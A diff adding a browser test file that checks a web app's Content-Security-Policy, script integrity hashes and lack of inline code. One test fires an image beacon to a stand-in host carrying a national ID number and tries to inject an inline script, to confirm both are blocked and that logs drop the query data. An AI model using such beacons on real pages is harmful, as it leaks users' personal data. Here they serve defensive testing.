@@ -1,0 +1,142 @@
+import { createHash } from 'node:crypto'
+import { expect, test } from '../test'
+
+const places = [
+  '/',
+  '/home',
+  '/callback',
+  '/profile',
+  '/pma',
+  '/card',
+  '/faq/3',
+  '/funds/11602',
+  '/nowhere/at/all',
+] as const
+
+test('T15 T1 every page carries exactly these headers, with a nonce of its own', async ({ platform, request }) => {
+  const remotes = Object.values(platform.remotes).map(({ base }) => base)
+  const nonces = new Set<string>()
+  for (const place of places) {
+    const answer = await request.get(place)
+    expect(answer.status(), place).toBe(200)
+    const headers = answer.headers()
+    const [, nonce = ''] = /'nonce-([A-Za-z0-9+/=]{24})'/.exec(headers['content-security-policy'] ?? '') ?? []
+    nonces.add(nonce)
+    const policy = [
+      "default-src 'none'",
+      `script-src 'nonce-${nonce}' 'strict-dynamic'`,
+      `style-src 'self' ${remotes.join(' ')}`,
+      `img-src 'self' data: blob: ${remotes.join(' ')}`,
+      "font-src 'self'",
+      `connect-src 'self' ${platform.sandbox.api} ${platform.sandbox.identity}`,
+      `worker-src ${platform.origin}/sw.js ${platform.origin}/workers/`,
+      "media-src 'self' blob:",
+      "manifest-src 'self'",
+      "form-action 'self'",
+      "object-src 'none'",
+      "base-uri 'none'",
+      "frame-ancestors 'none'",
+      "require-trusted-types-for 'script'",
+      'trusted-types sarv',
+      'report-to reports',
+    ]
+    expect(headers, place).toMatchObject({
+      'content-security-policy': policy.join('; '),
+      'integrity-policy': 'blocked-destinations=(script), endpoints=(reports)',
+      'reporting-endpoints': 'reports="/reports"',
+      'permissions-policy': 'camera=(self), microphone=(self), geolocation=(), payment=(), usb=()',
+      'cross-origin-opener-policy': 'same-origin',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'x-content-type-options': 'nosniff',
+      'cache-control': 'no-store',
+      'content-type': 'text/html; charset=utf-8',
+    })
+  }
+  expect(nonces.size).toBe(places.length)
+})
+
+test('T1 the import map has the hash of every script of the shell and of the five remotes', async ({
+  platform,
+  request,
+}) => {
+  const html = await (await request.get('/home')).text()
+  const [, map = '{}'] = /<script type="importmap"[^>]*>(.*?)<\/script>/.exec(html) ?? []
+  const { integrity } = JSON.parse(map) as { integrity: Record<string, string> }
+  const { files } = (await (await request.get('/host.json')).json()) as { files: { path: string }[] }
+  const scripts = files.flatMap(({ path }) => (path.endsWith('.js') ? [`/${path}`] : []))
+  platform.setCatalogue((catalogue) => {
+    for (const { base, current } of catalogue.remotes)
+      for (const { path } of current.files) if (path.endsWith('.js')) scripts.push(`${base}/${current.version}/${path}`)
+    return catalogue
+  })
+  expect(Object.keys(integrity).toSorted()).toEqual(scripts.toSorted())
+  for (const [url, hash] of Object.entries(integrity)) {
+    const answer = await request.get(url)
+    expect(answer.status(), url).toBe(200)
+    expect(
+      `sha256-${createHash('sha256')
+        .update(await answer.body())
+        .digest('base64')}`,
+      url,
+    ).toBe(hash)
+  }
+})
+
+test('T1 T8 nothing on a page runs or paints inline: scripts have the nonce, there are no handlers and no styles', async ({
+  request,
+}) => {
+  for (const place of places) {
+    const answer = await request.get(place)
+    const html = await answer.text()
+    const [, nonce = ''] = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '') ?? []
+    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag)
+    expect(scripts.length, place).toBeGreaterThan(0)
+    for (const tag of scripts) {
+      if (tag.includes('type="application/json"')) continue
+      expect(tag, place).toContain(`nonce="${nonce}"`)
+      if (tag.includes('src=')) expect(tag, place).toMatch(/integrity="sha256-[^"]+"/)
+    }
+    const markup = html.replace(/<script\b[^>]*>.*?<\/script>/g, '')
+    expect(markup, place).not.toMatch(/<style|\sstyle=|\son[a-z]+=|javascript:/i)
+    for (const [tag] of markup.matchAll(/<link [^>]*rel="(?:stylesheet|modulepreload)"[^>]*>/g))
+      expect(tag, place).toMatch(/integrity="sha256-[^"]+"/)
+  }
+})
+
+test('T1 T23 what the policy blocks does not happen, and its report is logged without any query', async ({
+  page,
+  platform,
+  watch,
+}) => {
+  watch.expectComplaints(/policy: |Content Security Policy|violates|TrustedScript/)
+  await page.goto('/')
+  // Chromium itself delivers reports from https pages only, so the page hands on what the browser wrote.
+  const sent = await page.evaluate(async () => {
+    const written = new Promise<unknown[]>((resolve) => {
+      const reports: unknown[] = []
+      new ReportingObserver((list) => {
+        reports.push(...list.map((report) => report.toJSON()))
+        if (reports.length >= 2) resolve(reports)
+      }).observe()
+    })
+    new Image().src = 'https://elsewhere.example/pixel.png?national_code=0012345678'
+    const script = document.createElement('script')
+    try {
+      script.textContent = 'globalThis.sarvInline = true'
+    } catch {
+      // Trusted Types refuse the text; the element stays empty.
+    }
+    document.head.append(script)
+    const body = JSON.stringify(await written)
+    const answer = await fetch('/reports?national_code=0012345678', { method: 'POST', body })
+    return { body, status: answer.status }
+  })
+  expect(sent.status).toBe(204)
+  expect(sent.body, 'the browser did report the query').toContain('0012345678')
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'sarvInline'))).toBeUndefined()
+  expect(platform.logged).toContain('report csp-violation img-src https://elsewhere.example/pixel.png')
+  expect(
+    platform.logged.some((line) => /^report csp-violation (require-trusted-types-for|trusted-types)/.test(line)),
+  ).toBe(true)
+  expect(platform.logged.join('\n')).not.toMatch(/national_code|0012345678|\?/)
+})
